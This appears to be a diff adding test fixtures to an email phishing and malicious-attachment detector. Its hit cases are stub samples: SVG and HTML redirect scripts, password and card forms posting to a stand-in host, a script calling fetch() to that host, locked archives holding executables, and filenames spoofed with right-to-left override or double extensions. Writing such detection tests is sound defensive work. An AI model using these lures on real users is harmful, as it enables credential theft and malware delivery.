@@ -51,9 +51,31 @@ const invitation = (summary: string, description: string): Trial => ({
   ],
 })
 const qrTable = `<table>${Array.from({ length: 25 }, (_, y) => `<tr>${Array.from({ length: 25 }, (_, x) => `<td style="width:4px;height:4px;background:${(x * y + x) % 3 ? '#000' : '#fff'}"></td>`).join('')}</tr>`).join('')}</table>`
+const page = (body: string, name = 'invoice.html'): Trial => file(name, utf8(`<html><body>${body}`), 'text/html')
+const svg = (inner: string): Trial =>
+  file('voice.svg', utf8(`<svg xmlns="http://www.w3.org/2000/svg">${inner}</svg>`), 'image/svg+xml')
+/** A password stands before the names of its members only. */
+const locked = (...names: readonly string[]): Trial =>
+  file('a.zip', zip(names.map((name) => ({ name, data: zeros(12), flags: 1 }))))
+const attachedMail = (body: string): Trial => ({
+  text: 'Please see the message attached.',
+  parts: [`Content-Type: message/rfc822\r\n\r\nFrom: a@miwake-sample.net\r\nSubject: x\r\n\r\n${body}`],
+})
 const image = (src: string) => `<img src="${src}" width="200" height="80">`
 
 const cases: Cases = {
+  ATTACHMENT_ACTIVE_SVG: {
+    hits: [
+      svg('<script>location="https://miwake-sample.net/"</script>'),
+      svg('<foreignObject><form action="https://miwake-sample.net/"><input type="password"></form></foreignObject>'),
+      svg('<a href="https://miwake-sample.net/"><rect width="100%" height="100%"/></a>'),
+    ],
+    misses: [
+      svg('<path d="M0 0"/>'),
+      svg('<foreignObject><div>Box</div></foreignObject><a href="https://miwake-sample.net/"><text>help</text></a>'),
+      page('<script>location="https://miwake-sample.net/"</script>'),
+    ],
+  },
   ATTACHMENT_ARCHIVE: {
     hits: [photos, file('a.7z', sevenZip(['a.txt']))],
     misses: [plainPdf, file('a.zip', zip([{ name: 'a.xlsx', data: zeros(12), flags: 1 }]))],
@@ -66,7 +88,7 @@ const cases: Cases = {
     misses: [photos, letter],
   },
   ATTACHMENT_DISK_IMAGE: {
-    hits: [file('a.iso', iso(['A.EXE'])), file('b.img', iso(['INVOICE.LNK']))],
+    hits: [file('a.iso', iso(['A.EXE'])), file('b.img', iso(['INVOICE.LNK'])), locked('invoice.iso')],
     misses: [photos, plainPdf],
   },
   ATTACHMENT_DOCUMENT: {
@@ -78,8 +100,13 @@ const cases: Cases = {
     misses: [photos, file('a.rar', rar4(['a.xlsx']))],
   },
   ATTACHMENT_EXECUTABLE: {
-    hits: [program, file('a.zip', zip([{ name: 'invoice.exe' }])), file('a.js', utf8('WScript.Echo(1)'))],
-    misses: [photos, plainPdf, file('notes.txt', utf8('run setup.exe first'))],
+    hits: [
+      program,
+      file('a.zip', zip([{ name: 'invoice.exe' }])),
+      file('a.js', utf8('WScript.Echo(1)')),
+      locked('a.scr'),
+    ].concat([locked('a.pdf', 'invoice.lnk'), locked('invoice.iso'), file('a.rar', rar4(['a.js'], 4))]),
+    misses: [photos, plainPdf, locked('a.xlsx'), file('notes.txt', utf8('run setup.exe first'))],
   },
   ATTACHMENT_EXTERNAL_TEMPLATE: {
     hits: [
@@ -87,6 +114,22 @@ const cases: Cases = {
       file('b.docx', office({ 'word/_rels/settings.xml.rels': template('http://198.51.100.7/b.dotm') })),
     ],
     misses: [letter, file('a.docx', office({ 'word/_rels/settings.xml.rels': template('file:///C:\\Normal.dotm') }))],
+  },
+  ATTACHMENT_FORM: {
+    hits: [
+      page('<form action="https://miwake-sample.net/x"><input type="password"></form>'),
+      page('<form action="https://miwake-sample.net/x"><input name="card"></form>'),
+      page('<form><input type="password"></form><script>fetch("https://miwake-sample.net/x")</script>'),
+      file(
+        'a.zip',
+        zip([{ name: 'a.html', data: utf8('<form action="https://miwake-sample.net/"><input type=password>') }]),
+      ),
+    ],
+    misses: [
+      page('<form action="/search"><input name="q"></form>'),
+      page('<form action="https://www.popular-shop.com/open"><input type="password"></form>'),
+      { html: '<form action="https://miwake-sample.net/x"><input type="password"></form>' },
+    ],
   },
   ATTACHMENT_HTML: {
     hits: [
@@ -113,12 +156,30 @@ const cases: Cases = {
     hits: [
       file('invoice.pdf.exe', raw(`MZ${'\0'.repeat(60)}`)),
       file('invoice.pdf                    .exe', raw(`MZ${'\0'.repeat(60)}`)),
+      file('a.zip', zip([{ name: 'invoice.pdf.exe' }])),
+      locked('invoice\u202efdp.exe'),
     ],
-    misses: [plainPdf, file('report.2026.02.pdf', pdf(['1 0 obj <</Type/Catalog>> endobj']))],
+    misses: [
+      plainPdf,
+      file('a.zip', zip([{ name: 'setup.1.2.exe' }, { name: 'report.2026.02.pdf' }])),
+      file('report.2026.02.pdf', pdf(['1 0 obj <</Type/Catalog>> endobj'])),
+    ],
   },
   ATTACHMENT_PDF: {
     hits: [plainPdf, file('scan.bin', pdf(['1 0 obj <</Type/Catalog>> endobj']))],
     misses: [letter, photos],
+  },
+  ATTACHMENT_REDIRECT: {
+    hits: [
+      page('<meta http-equiv="refresh" content="0; url=https://miwake-sample.net/">'),
+      page('<p>Please wait</p><script>location.replace("https://miwake-sample.net/")</script>'),
+      svg('<script>window.location="https://miwake-sample.net/"</script>'),
+    ],
+    misses: [
+      page('<p>見積書です</p><a href="https://miwake-sample.net/">見る</a>'),
+      page(`<p>${'議事録です。'.repeat(100)}</p><script>if (x) location.href = y</script>`),
+      { html: '<meta http-equiv="refresh" content="0; url=https://miwake-sample.net/">' },
+    ],
   },
   ATTACHMENT_SMUGGLING: {
     hits: [
@@ -284,7 +345,12 @@ const cases: Cases = {
     misses: [web('https://miwake-sample.net/'), { text: 'See https://miwake-sample.net/ please' }],
   },
   LINKS_UNKNOWN: {
-    hits: [web('https://miwake-sample.net/'), web('https://www.popular-shop.com/', 'https://miwake-sample.top/')],
+    hits: [
+      web('https://miwake-sample.net/'),
+      web('https://www.popular-shop.com/', 'https://miwake-sample.top/'),
+      page('<script>location.replace("https://miwake-sample.net/")</script>'),
+      attachedMail('Sign in at https://miwake-sample.net/'),
+    ],
     misses: [
       web('https://www.popular-shop.com/'),
       { from: 'A <a@miwake-sample.net>', html: a('https://www.miwake-sample.net/') },
